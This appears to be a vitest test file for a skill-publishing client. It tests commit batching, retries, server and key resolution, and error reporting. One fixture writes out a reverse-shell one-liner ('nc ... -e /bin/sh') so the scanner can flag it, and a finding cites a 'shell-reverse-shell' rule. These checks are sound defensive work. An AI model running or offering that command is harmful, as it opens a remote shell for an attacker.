// Promise: requests stay within the server's limits, a refusal names the local file, and a busy server is retried only
// as often and as fast as it allows.

import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

import { afterEach, beforeEach, expect, test } from 'vitest'

import { memoryBlob } from '../../../scripts/skill-folders/blob.ts'
import { explainFailure, serverOf } from '../../../scripts/lib/server.ts'
import { dryRunCommit } from '../../../scripts/publish/exchange.ts'
import { gather, gatherMemory, type Sendable } from '../../../scripts/publish/gather.ts'
import { lineDiff } from '../../../scripts/publish/line-diff.ts'
import { outcomeJson } from '../../../scripts/publish/outcome-json.ts'
import { splitIntoCommits } from '../../../scripts/publish/commit-batches.ts'
import { sourceFile, createProgressReporter, comparisonLines } from '../../../scripts/publish/report.ts'
import { Client } from '../../../src/client/client.ts'
import { withRetries } from '../../../src/client/retries.ts'
import { utf8 } from '../../../src/lib/bytes.ts'
import { err, ok } from '../../../src/lib/result.ts'
import { COMMIT_FILES_MAX, COMMIT_SKILLS_MAX } from '../../../src/api/routes/limits.ts'
import { SEND_ATTEMPTS_MAX, SEND_RETRY_MAX_MS } from '../../../src/client/limits.ts'
import { COMMIT_BYTES_MAX } from '../../../src/skills/publish/limits.ts'

import type { ClientFailure } from '../../../src/client/types.ts'

let folder: string
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'satchel-publish-'))
})
afterEach(async () => {
  await rm(folder, { recursive: true, force: true })
})

const md = (name: string): string => `---\nname: ${name}\ndescription: Does ${name}.\n---\n\nDo it.\n`

async function write(path: string, name: string): Promise<void> {
  await mkdir(join(folder, path), { recursive: true })
  await writeFile(join(folder, path, 'SKILL.md'), md(name))
}

function sized(name: string, files: number, bytes: number): Sendable {
  const blob = { ...memoryBlob(new Uint8Array()), size: bytes }
  const listed = Array.from({ length: files }, (_, at) => ({ path: `${at}.md`, sha256: '', blob }))
  return {
    location: name,
    fileLocation: (file) => `${name}/${file}`,
    name,
    files: listed,
    accept: [],
    findings: [],
  }
}

const sizes = (skills: readonly Sendable[]): number[] =>
  splitIntoCommits(skills, (skill) => skill).map(({ length }) => length)

test('skills are divided by number, files and bytes into parts as full as possible', () => {
  expect(sizes([])).toEqual([])
  const small = Array.from({ length: COMMIT_SKILLS_MAX + 1 }, (_, at) => sized(`s${at}`, 1, 1))
  expect(sizes(small)).toEqual([COMMIT_SKILLS_MAX, 1])
  const half = Math.ceil(COMMIT_FILES_MAX / 2)
  expect(sizes([sized('a', half, 1), sized('b', half, 1), sized('c', 2, 1)])).toEqual([2, 1])
  const third = Math.ceil(COMMIT_BYTES_MAX / 3)
  expect(sizes([sized('a', 1, third), sized('b', 1, third), sized('c', 1, third)])).toEqual([2, 1])
  expect(sizes([sized('huge', COMMIT_FILES_MAX + 1, 1)])).toEqual([1])
})

test('two skills of one name are refused, with both places', async () => {
  await write('x/twin', 'twin')
  await write('y/twin', 'twin')
  const { errors } = await gather([folder])
  expect(errors).toEqual([expect.stringMatching(/y\/twin and .*x\/twin are both called twin/)])
})

test('a folder without skills, a missing folder and a damaged archive are reported', async () => {
  await writeFile(join(folder, 'x.zip'), 'no archive')
  const empty = join(folder, 'empty')
  await mkdir(empty)
  const { errors, skills } = await gather([empty, join(folder, 'none'), join(folder, 'x.zip')])
  expect(skills).toEqual([])
  expect(errors.join('\n')).toMatch(
    /no skill[^]*none: This file or folder does not[^]*x\.zip.*: .*neither a zip/,
  )
})

test('a folder that is not named like its skill is refused at the line of its name', async () => {
  await write('other', 'mine')
  const { errors } = await gather([folder])
  expect(errors).toEqual([
    expect.stringMatching(/other\/SKILL\.md:2: error name-not-folder: The folder 'other' must match/),
  ])
})

test('a file called __proto__ is sent like any other', () => {
  const files = new Map([
    ['SKILL.md', utf8(md('odd'))],
    ['__proto__', utf8('x')],
  ])
  const { skills } = gatherMemory([{ files, folder: 'odd', location: 'memory' }])
  expect(skills[0]?.files.map(({ path }) => path)).toEqual(['SKILL.md', '__proto__'])
})

test('errors found locally are reported, even if a folder would be sent with a reason to accept them', () => {
  const files = new Map([
    ['SKILL.md', utf8(md('odd'))],
    ['a.sh', utf8('nc a.example.org 1 -e /bin/sh\n')],
  ])
  const { skills, errors } = gatherMemory([{ files, folder: 'odd', location: 'memory' }])
  expect(skills).toEqual([])
  expect(errors).toEqual([expect.stringContaining('memory: a.sh:1')])
})

test.each([
  ['skills[1].SKILL.md:2', 'b/SKILL.md:2'],
  ['skills[0]', 'a'],
  ['skills[0].files.notes.md', 'a/notes.md'],
  ['unpublish[0]', '--unpublish old'],
  ['skills[9].x', 'skills[9].x'],
  ['note', 'note'],
])('the path %s is shown as %s', (path, shown) => {
  expect(sourceFile(path, [sized('a', 1, 1), sized('b', 1, 1)], ['old'])).toBe(shown)
})

test('thousands of files are ten lines of progress', () => {
  const lines: string[] = []
  const tell = createProgressReporter((line) => lines.push(line))
  for (let done = 1; done <= 5_000; done++) tell(done, 5_000)
  expect(lines).toHaveLength(10)
  expect(lines.at(-1)).toContain('sent 5,000 of 5,000 files')
})

test('a line diff is harmless and truncated', () => {
  const shown = lineDiff('a.md', utf8('one\ntwo\n'), utf8(`one\n\u001b[2J\u202Etwo ${'x'.repeat(1_000)}\n`))
  expect(shown).toContain('-two\n+two x')
  for (const sign of ['\u001b', '\u202E']) expect(shown).not.toContain(sign)
  expect(Math.max(...shown.split('\n').map(({ length }) => length))).toBeLessThan(500)
  expect(lineDiff('a.bin', new Uint8Array([0]), new Uint8Array([1]))).toBe(
    'a.bin: not text; 1 bytes before and 1 now',
  )
})

function problem(status: number, retryAfterMs: number | null): ClientFailure {
  const output = {
    type: 'about:blank',
    title: '',
    status,
    code: 'overloaded',
    detail: '',
    request_id: 'req_1',
  }
  return { kind: 'problem', problem: output, retryAfterMs }
}

/** A request that fails `times` times and then succeeds. Returns the waits and the number of attempts. */
async function tried(
  failure: ClientFailure,
  times: number,
): Promise<{ ok: boolean; waits: number[]; tries: number }> {
  const waits: number[] = []
  let tries = 0
  const answer = await withRetries(
    async () => (++tries > times ? ok('done') : err(failure)),
    async (ms) => void waits.push(ms),
  )
  return { ok: answer.ok, waits, tries }
}

test('a busy server is retried after the time it asks for, up to a maximum', async () => {
  expect(await tried(problem(503, 3_000), 2)).toEqual({ ok: true, waits: [3_000, 3_000], tries: 3 })
  expect(await tried(problem(429, 999_000), 1)).toEqual({ ok: true, waits: [SEND_RETRY_MAX_MS], tries: 2 })
  expect((await tried(problem(503, null), 2)).waits).toEqual([250, 500])
  expect((await tried({ kind: 'unreachable', detail: '' }, 1)).ok).toBe(true)
})

test('a refusal is not repeated, and retries end', async () => {
  for (const failure of [
    problem(422, null),
    problem(401, 0),
    problem(500, null),
    { kind: 'broken', detail: '' } as const,
  ])
    expect((await tried(failure, 1)).tries).toBe(1)
  expect(await tried(problem(503, 0), 99)).toMatchObject({ ok: false, tries: SEND_ATTEMPTS_MAX })
})

test('an invalid URL and a missing key are reported before any request', () => {
  expect(serverOf(folder, { ADMIN_KEY: 'k' }, { url: 'here' })).toMatchObject({ ok: false })
  expect(serverOf(folder, { ADMIN_KEY: 'k' }, { url: 'file:///x' })).toMatchObject({ ok: false })
  expect(serverOf(folder, {}, {})).toMatchObject({ ok: false, error: expect.stringContaining('--key') })
  expect(serverOf(folder, { ADMIN_KEY: 'k', PORT: '99' }, {})).toMatchObject({
    ok: true,
    value: { url: 'http://127.0.0.1:99' },
  })
})

test('a flag overrides SATCHEL_URL, which overrides the URL of npm start; ADMIN_KEY is not sent to other servers', () => {
  const found = (env: Record<string, string>, to?: string): unknown => {
    const server = serverOf(folder, env, { url: to })
    return server.ok ? [server.value.url, server.value.isDefault] : server.error
  }
  const env = { SATCHEL_URL: 'http://127.0.0.1:7', SATCHEL_KEY: 'mine', PORT: '99' }
  expect(found(env)).toEqual(['http://127.0.0.1:7', true])
  expect(found(env, 'http://x')).toEqual(['http://x', false])
  const { SATCHEL_KEY: _, ...local } = { ...env, ADMIN_KEY: 'of this machine' }
  for (const to of ['http://127.0.0.1:9', 'http://localhost', 'http://[::1]:9'])
    expect(found(local, to), to).toEqual([to, false])
  for (const to of ['https://x', 'http://127.0.0.1.x', 'http://10.0.0.1'])
    expect(found(local, to), to).toBe(
      `No key is set for ${to}: set SATCHEL_KEY or pass --key. (ADMIN_KEY is only for the server on this machine.)`,
    )
  expect(found({ ...env, SATCHEL_URL: '' })).toEqual(['http://127.0.0.1:99', true])
  expect(found({ ...env, SATCHEL_KEY: '' })).toMatch(/^No key is set: /)
  expect(found({ ...env, SATCHEL_URL: 'here' })).toMatch(/^SATCHEL_URL here is not the address of a server/)
})

test('npm start is suggested only for a server on this machine', () => {
  const output = (url: string) => explainFailure({ kind: 'unreachable', detail: 'No response.' }, url)
  expect(output('http://127.0.0.1:8787')).toContain('npm start')
  expect(output('https://satchel.example.com')).not.toContain('npm start')
  expect(output('https://satchel.example.com')).toContain('Check the address')
})

test('a refused key is explained for a terminal', () => {
  const output = (status: number, code: string): string =>
    explainFailure(
      {
        kind: 'problem',
        problem: { type: 'about:blank', title: '', status, code, detail: 'No.', request_id: 'req_1' },
        retryAfterMs: null,
      },
      'http://x',
    )
  expect(output(401, 'unauthenticated')).toContain('--key')
  expect(output(403, 'forbidden')).not.toContain('--key')
})

test('a refusal shows every finding, at its file', () => {
  const errors = Array.from({ length: 60 }, (_, at) => ({
    path: `skills[0].a.sh:${at}`,
    message: `No. ${at}.`,
  }))
  const problem = {
    type: 'about:blank',
    title: '',
    status: 422,
    code: 'invalid_skill',
    detail: 'No.',
    request_id: 'r',
  }
  const output = explainFailure(
    { kind: 'problem', problem: { ...problem, errors }, retryAfterMs: null },
    'http://x',
    (path) => path.replace('skills[0]', 'tea'),
  )
  const shown = output.split('\n').filter((line) => /^ {2}tea\.a\.sh:\d+: No\. \d+\.$/.test(line))
  expect(shown).toHaveLength(60)
})

test('one SKILL.md names its folder, a flat skill itself, and any other file is reported', async () => {
  await write('tea', 'tea')
  await writeFile(join(folder, 'tea/more.md'), 'more')
  await mkdir(join(folder, '.skills'))
  await writeFile(join(folder, '.skills/alpha.md'), md('alpha'))
  const { skills, errors } = await gather([
    join(folder, 'tea/SKILL.md'),
    join(folder, 'tea'),
    join(folder, '.skills/alpha.md'),
  ])
  expect(errors).toEqual([])
  expect(skills.map(({ name, location, files }) => [name, location, files.length])).toEqual([
    ['tea', join(folder, 'tea'), 2],
    ['alpha', join(folder, '.skills/alpha.md'), 1],
  ])
  const other = await gather([join(folder, 'tea/more.md')])
  expect(other.errors).toEqual([expect.stringContaining('A single file is a skill only if')])
})

test('errors in a flat skill are shown at its own file, by line, whoever finds them', async () => {
  await mkdir(join(folder, '.skills'))
  await writeFile(
    join(folder, '.skills/alpha.md'),
    '---\nowner: me\ndescription: Does.\nname: Alpha\n---\n\nDo.\n',
  )
  const { errors } = await gather([folder])
  const at = join(folder, '.skills/alpha.md')
  expect(errors.map((error) => error.split(': ')[0])).toEqual([`${at}:2`, `${at}:4`, `${at}:4`])

  await writeFile(join(folder, '.skills/alpha.md'), md('alpha'))
  const { skills } = await gather([folder])
  expect(sourceFile('skills[0].SKILL.md:2', skills, [])).toBe(`${at}:2`)
  expect(sourceFile('skills[0]', skills, [])).toBe(at)
})

test('a skill that is already live has nothing to send, unless an error of it is accepted for the first time', async () => {
  const error = {
    rule: 'shell-reverse-shell',
    severity: 'warning',
    file: 'a.sh',
    line: 1,
    message: 'm',
    fix: 'm',
  }
  const stateWith = async (accepted: object): Promise<string | undefined> => {
    const sha256 = 'a'.repeat(64)
    const skill = {
      skill: { name: 'a', digest: sha256 },
      created: false,
      findings: [{ ...error, accepted: { reason: 'Taught.', sha256, ...accepted } }],
      diff: [{ path: 'a.sh', change: 'same', before: sha256, after: sha256 }],
    }
    const answer = { catalog_version: 1, skills: [skill], unpublished: [] }
    const fetch = async (): Promise<Response> => Response.json(answer)
    const client = new Client({ url: 'http://x', key: 'k', fetch, wait: async () => {} })
    const trial = await dryRunCommit(client, [sized('a', 1, 1)], [])
    return trial.ok ? trial.value.skills[0]?.state : undefined
  }
  expect(await stateWith({ author: 'ada', at: '2026-01-01T00:00:00.000Z' })).toBe('same')
  expect(await stateWith({})).toBe('changed')
})

test('one file is singular, and a live skill shadows nothing', () => {
  const shadows = {
    rule: 'shadows-public',
    severity: 'note',
    file: 'SKILL.md',
    line: null,
    message: 'm',
    fix: 'm',
  } as const
  const compared = { skill: sized('a', 1, 1), liveDigest: null, digest: 'd', findings: [shadows], diff: [] }
  expect(comparisonLines([{ ...compared, state: 'new' }], false).join('\n')).toContain('1 file, 1 byte, a')
  for (const [state, found] of [
    ['changed', 1],
    ['same', 0],
  ] as const) {
    const trial = { catalogVersion: 1, skills: [{ ...compared, state }], unpublished: [] }
    const output = outcomeJson({ status: 0, published: false, trial, catalogVersion: 1 })
    expect(JSON.parse(output).skills[0].findings).toHaveLength(found)
  }
})
